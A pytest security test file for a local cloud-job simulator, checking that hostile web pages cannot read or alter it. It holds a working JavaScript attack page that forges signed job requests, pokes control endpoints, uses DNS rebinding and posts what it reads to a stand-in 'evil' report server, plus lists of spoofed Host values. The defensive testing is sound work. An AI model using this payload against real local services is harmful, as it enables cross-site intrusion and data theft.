"""A web page can neither read nor change the served simulator: seen with a real browser.

The key is published, so a page can sign requests of the older methods, which are whole URLs.
"""

from __future__ import annotations

import json
import time
import uuid
from dataclasses import dataclass
from datetime import datetime, timezone
from pathlib import Path
from typing import Any
from urllib.parse import urlencode, urlsplit

import httpx
import pytest
from pulumi_cloudjobs.alibaba import signing as alibaba
from pulumi_cloudjobs.simulator import app
from pulumi_cloudjobs.simulator.control import Control
from pulumi_cloudjobs.simulator.framework import EMBEDDED_KEY_ID, EMBEDDED_SECRET
from pulumi_cloudjobs.simulator.guard import refusal
from pulumi_cloudjobs.simulator.server import serving
from pulumi_cloudjobs.simulator.store import Store
from pulumi_cloudjobs.tencent import signing as tencent

from tests.backends import free_port

from .browser import EVIL, EvilServer, browsing

JOB = {
    "Placement.Zone": "ap-guangzhou-2",
    "Job.JobName": "from-a-web-page",
    "Job.Tasks.0.TaskName": "t",
    "Job.Tasks.0.Application.DeliveryForm": "LOCAL",
    "Job.Tasks.0.Application.Command": "true",
    "Job.Tasks.0.ComputeEnv.EnvData.InstanceType": "S1.SMALL1",
}
ATTACK = """
<!doctype html><title>free prizes</title><body><script>
const SIMULATOR = "%(simulator)s", REPORT = "%(report)s", FORM = %(form)s;
const IMAGES = %(images)s, FRAMES = %(frames)s;
const read = [];
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

async function tryFetch(path, options) {
  try {
    const response = await fetch(SIMULATOR + path, options);
    read.push({path, type: response.type, status: response.status, text: await response.text()});
  } catch (error) {
    read.push({path, type: "error", status: 0, text: ""});
  }
}

function add(tag, attributes) {
  const element = Object.assign(document.createElement(tag), attributes);
  document.body.append(element);
  return element;
}

function postForm(action, fields, enctype) {
  const name = "frame" + Math.random();
  add("iframe", {name});
  const form = add("form", {action, method: "POST", target: name, enctype});
  for (const [field, value] of Object.entries(fields)) {
    form.append(Object.assign(document.createElement("input"), {name: field, value}));
  }
  form.submit();
}

async function attack() {
  const json = {"Content-Type": "application/json"}, text = "text/plain";
  const clock = "/_simulator/clock", body = '{"advance": 86400}';
  await tryFetch("/_simulator/", {});
  await tryFetch("/_simulator/objects", {referrerPolicy: "no-referrer"});
  await tryFetch(clock, {method: "POST", body});
  await tryFetch(clock, {method: "POST", body, mode: "no-cors"});
  await tryFetch("/_simulator/reset", {method: "POST", mode: "no-cors", keepalive: true});
  await tryFetch("/_simulator/keys", {method: "POST", headers: json, body: "{}"});
  await tryFetch("/_simulator/objects?object_type=x&id=y", {method: "DELETE"});
  await tryFetch("/", {method: "POST", headers: {...json, "X-TC-Action": "SubmitJob"}, body: "{}"});
  navigator.sendBeacon(SIMULATOR + clock, new Blob([body], {type: text}));
  postForm(SIMULATOR + "/", FORM, "application/x-www-form-urlencoded");
  postForm(SIMULATOR + clock, {'{"advance": 86400, "x': '"}'}, text);
  for (const src of IMAGES) {
    add("img", {src});
    add("img", {src: REPORT + "/redirect?" + src, referrerPolicy: "no-referrer"});
    add("script", {src});
    add("link", {rel: "stylesheet", href: src});
  }
  for (const src of FRAMES) {
    add("iframe", {src});
    add("iframe", {srcdoc: "<img src='" + src.replaceAll("&", "&amp;") + "'>", sandbox: ""});
  }
  new EventSource(SIMULATOR + "/_simulator/calls");
  await pause(1500);
  await fetch(REPORT + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(read)});
}
%(start)s
</script>
"""
AT_ONCE = "attack();"
WHEN_REBOUND = """
// The page waits until its own name leads to another server, which does not know its path.
async function rebound() {
  for (;;) {
    try {
      if ((await fetch("/", {cache: "no-store"})).status !== 200) return attack();
    } catch (error) {}
    await pause(100);
  }
}
fetch(REPORT + "/report", {method: "POST", mode: "no-cors", body: '"loaded"'}).then(rebound);
"""


@dataclass(frozen=True)
class Arrival:
    """A request that has reached the simulator, and whether it was refused."""

    method: str
    path: str
    site: str | None
    origin: str | None
    refused: bool


@pytest.fixture
def arrivals(monkeypatch: pytest.MonkeyPatch) -> list[Arrival]:
    """Return the requests that reach the simulator, as a list that grows."""
    noted: list[Arrival] = []

    def noting(environ: dict[str, Any], *, allow_remote: bool) -> str | None:
        reason = refusal(environ, allow_remote=allow_remote)
        site, origin = environ.get("HTTP_SEC_FETCH_SITE"), environ.get("HTTP_ORIGIN")
        method, path = environ["REQUEST_METHOD"], environ["PATH_INFO"]
        noted.append(Arrival(method, path, site, origin, reason is not None))
        return reason

    monkeypatch.setattr(app, "refusal", noting)
    return noted


@pytest.fixture
def profile(tmp_path: Path) -> Path:
    folder = tmp_path / "profile"
    folder.mkdir()
    return folder


def submit_job(host: str, method: str, token: str) -> dict[str, str]:
    """The parameters of a SubmitJob with Tencent's older signature."""
    parameters = {
        "Action": "SubmitJob",
        "Version": "2017-03-12",
        "Region": "ap-guangzhou",
        "Timestamp": str(int(time.time())),
        "Nonce": "4711",
        "SecretId": EMBEDDED_KEY_ID,
        "ClientToken": token,
        **JOB,
    }
    to_sign = tencent.form_string_to_sign(method, host, "/", parameters)
    return {**parameters, "Signature": tencent.form_signature(to_sign, EMBEDDED_SECRET)}


def list_flow_jobs() -> dict[str, str]:
    """The parameters of a ListFlowJob with Alibaba's older signature."""
    parameters = {
        "Action": "ListFlowJob",
        "Version": "2016-04-08",
        "RegionId": "cn-hangzhou",
        "ProjectId": "FP-257A173659F50000",
        "Format": "JSON",
        "AccessKeyId": EMBEDDED_KEY_ID,
        "SignatureMethod": "HMAC-SHA1",
        "SignatureVersion": "1.0",
        "SignatureNonce": str(uuid.uuid4()),
        "Timestamp": datetime.now(timezone.utc).strftime("%Y-%m-%dT%H:%M:%SZ"),
    }
    to_sign = alibaba.rpc_string_to_sign("GET", alibaba.rpc_canonical_query(parameters))
    return {**parameters, "Signature": alibaba.rpc_signature(to_sign, EMBEDDED_SECRET)}


def attack(simulator: str, report: str, *, start: str = AT_ONCE) -> str:
    """A page that attacks the simulator in every way that a page has."""
    host = urlsplit(simulator).netloc
    gets = [submit_job(host, "GET", "image"), list_flow_jobs()]
    urls = [f"{simulator}/?{urlencode(parameters)}" for parameters in gets]
    values = {
        "simulator": simulator,
        "report": report,
        "form": json.dumps(submit_job(host, "POST", "form")),
        "images": json.dumps(urls),
        "frames": json.dumps([*urls, f"{simulator}/_simulator/objects"]),
        "start": start,
    }
    return ATTACK % values


def snapshot(control: Control) -> tuple[Any, ...]:
    """Everything that an attack could change; the clock runs on by itself."""
    return (control.objects(), control.calls(), control.settings(), control.faults())


def submit_as_a_program(address: str) -> httpx.Response:
    """Send what the page has sent, without a browser."""
    parameters = submit_job(urlsplit(address).netloc, "GET", "program")
    return httpx.get(f"{address}/", params=parameters, trust_env=False)


@pytest.mark.parametrize(
    ("host", "site"),
    [
        pytest.param(EVIL, "cross-site", id="another-site"),
        pytest.param("127.0.0.1", "same-site", id="another-port"),
    ],
)
def test_a_page_of_another_origin_reads_and_changes_nothing(
    host: str,
    site: str,
    store: Store,
    control: Control,
    arrivals: list[Arrival],
    profile: Path,
) -> None:
    """Any page that a developer opens while the simulator runs could otherwise use it."""
    before = snapshot(control)
    port = free_port()
    report = f"http://{host}:{port}"
    with serving(store) as address:
        pages = {"/": attack(address, report)}
        with EvilServer(pages, port) as evil, browsing(f"{report}/", profile):
            read = evil.report()

        assert snapshot(control) == before
        assert abs(control.now() - time.time()) < 60
        assert [one["text"] for one in read] == [""] * len(read)

        # The attack was one: its requests came, and are good without the marks of a browser.
        methods = {(arrival.method, arrival.site) for arrival in arrivals}
        assert {("GET", site), ("POST", site), ("OPTIONS", site)} <= methods
        assert len(arrivals) > 20
        assert all(arrival.refused for arrival in arrivals)
        assert "JobId" in submit_as_a_program(address).json()["Response"]


def test_a_page_whose_name_is_rebound_reads_and_changes_nothing(
    store: Store, control: Control, arrivals: list[Arrival], profile: Path
) -> None:
    """The browser takes the simulator for the page's own server then, and hides nothing."""
    before = snapshot(control)
    port = free_port()
    own, report = f"http://rebound.example:{port}", free_port()
    page = attack(own, f"http://{EVIL}:{report}", start=WHEN_REBOUND)
    with (
        EvilServer({}, report) as evil,
        EvilServer({"/": page}, port) as host,
        browsing(f"{own}/", profile),
    ):
        assert evil.report() == "loaded"
        host.close()
        with serving(store, port=port) as address:
            read = evil.report()
            assert snapshot(control) == before
            assert "JobId" in submit_as_a_program(address).json()["Response"]

    assert abs(control.now() - time.time()) < 60
    assert {one["status"] for one in read} == {403}
    assert not any("embedded" in one["text"] or "image" in one["text"] for one in read)
    own_requests = [arrival for arrival in arrivals[:-1] if arrival.path == "/_simulator/"]
    assert own_requests
    assert all(arrival.refused for arrival in arrivals[:-1])


# The headers of Chromium 156, for each way to send a request.
FETCH = {"Sec-Fetch-Dest": "empty", "Sec-Fetch-Mode": "cors"}
IMAGE = {"Sec-Fetch-Dest": "image", "Sec-Fetch-Mode": "no-cors"}
NAVIGATION = {"Sec-Fetch-Dest": "document", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-User": "?1"}
PAGES = [
    pytest.param({"Origin": f"http://{EVIL}", "Sec-Fetch-Site": "cross-site", **FETCH}, id="fetch"),
    pytest.param({"Origin": "null", "Sec-Fetch-Site": "cross-site", **FETCH}, id="sandbox"),
    pytest.param({"Origin": "null"}, id="older-browser"),
    pytest.param({"Origin": ""}, id="empty-origin"),
    pytest.param({"Sec-Fetch-Site": "cross-site", **IMAGE}, id="image"),
    pytest.param({"Sec-Fetch-Site": "same-site", **IMAGE}, id="image-from-another-port"),
    pytest.param({"Sec-Fetch-Site": "cross-site", **NAVIGATION}, id="link"),
    pytest.param({"Sec-Fetch-Site": "same-origin", **FETCH}, id="own-page"),
    pytest.param({"Host": f"{EVIL}:8420"}, id="rebound-name"),
    pytest.param({"Host": "127.0.0.1.evil.example"}, id="almost-loopback"),
    pytest.param({"Host": "127.0.0.1, evil.example"}, id="two-names"),
    pytest.param({"Host": "evil@127.0.0.1"}, id="user"),
    pytest.param({"Host": "127.1"}, id="short-address"),
    pytest.param({"Host": "0.0.0.0:8420"}, id="every-address"),
    pytest.param({"Host": "10.0.0.7:8420"}, id="another-machine"),
    pytest.param({"Host": ""}, id="no-name"),
]
PATHS = ["/", "/_simulator", "/_simulator/", "/_simulator/reset", "/v2.0/p/batches", "/favicon.ico"]


@pytest.mark.parametrize("headers", PAGES)
def test_the_marks_of_a_browser_are_refused_on_every_path(
    headers: dict[str, str], store: Store, control: Control
) -> None:
    """A path that is left out would be the way in."""
    before = snapshot(control)
    transport = httpx.WSGITransport(app=app.create_app(store))
    with httpx.Client(transport=transport, base_url="http://127.0.0.1:8420") as client:
        for path in PATHS:
            for method in ("GET", "POST", "PUT", "DELETE", "OPTIONS", "HEAD"):
                assert client.request(method, path, headers=headers).status_code == 403

    assert snapshot(control) == before


@pytest.mark.parametrize(
    "headers",
    [
        pytest.param({"Sec-Fetch-Site": "none", **NAVIGATION}, id="typed-by-the-user"),
        pytest.param({"Sec-Fetch-Mode": "cors"}, id="fetch-of-node"),
        pytest.param({"Host": "LocalHost:8420"}, id="capitals"),
        pytest.param({"Host": "[::1]:8420"}, id="ipv6"),
        pytest.param({"Host": "127.8.9.1"}, id="no-port"),
        pytest.param({"Host": "cloudjobs.embedded"}, id="in-process"),
    ],
)
def test_programs_and_the_user_are_not_refused(headers: dict[str, str], store: Store) -> None:
    """The address bar of a browser is a good way to see what the simulator holds."""
    transport = httpx.WSGITransport(app=app.create_app(store))
    with httpx.Client(transport=transport, base_url="http://127.0.0.1:8420") as client:
        assert client.get("/_simulator/", headers=headers).status_code == 200


@pytest.mark.parametrize(
    ("host", "status"),
    [
        ("10.0.0.7:8420", 404),
        ("simulator:8420", 404),
        ("[fd00::1]", 404),
        ("evil.example:8420", 403),
        ("simulator.evil.example", 403),
    ],
)
def test_on_an_open_address_names_with_a_dot_are_refused(
    host: str, status: int, store: Store
) -> None:
    """Other machines write an address or a short name; a page needs a name of its own."""
    transport = httpx.WSGITransport(
        app=app.create_app(store, allow_remote=True), remote_addr="10.0.0.8"
    )
    with httpx.Client(transport=transport, base_url="http://10.0.0.7:8420") as client:
        assert client.get("/", headers={"Host": host}).status_code == status
        # Whoever it is, only this machine steers.
        assert client.get("/_simulator/", headers={"Host": host}).status_code == 403


def test_a_whole_url_as_target_is_no_way_around(store: Store) -> None:
    """A browser sends one to what it takes for a proxy."""
    environ = {
        "REQUEST_METHOD": "GET",
        "PATH_INFO": "/_simulator/",
        "REMOTE_ADDR": "127.0.0.1",
        "HTTP_HOST": "127.0.0.1:8420",
        "REQUEST_URI": "http://evil.example/_simulator/",
    }
    assert refusal(environ, allow_remote=False)
    assert refusal({**environ, "REQUEST_URI": "http://[evil"}, allow_remote=False)
    assert not refusal({**environ, "REQUEST_URI": "http://localhost/x"}, allow_remote=False)
